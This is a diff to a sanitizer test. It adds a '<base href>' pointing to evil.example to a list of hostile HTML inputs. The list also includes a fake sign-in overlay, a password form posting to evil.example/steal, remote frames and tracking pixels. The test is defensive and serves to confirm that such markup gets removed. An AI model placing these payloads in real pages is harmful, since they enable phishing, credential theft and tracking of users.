@@ -156,6 +156,8 @@ test('when a note holds styles, a form, a frame or a remote image, then none of 
       '<div style="position:fixed;inset:0;background:red;z-index:9999">Your session expired: sign in again</div>',
       '<form action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form>',
       '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x"></object>',
+      // Parsed, it was checked against the console's base-uri 'none': a console error each time the note showed.
+      '<base href="https://evil.example/">',
       '![pixel](https://tracker.example/pixel.gif) <img src="https://tracker.example/raw.gif" alt="raw">',
       '- [x] done task',
     ].join('\n\n'),
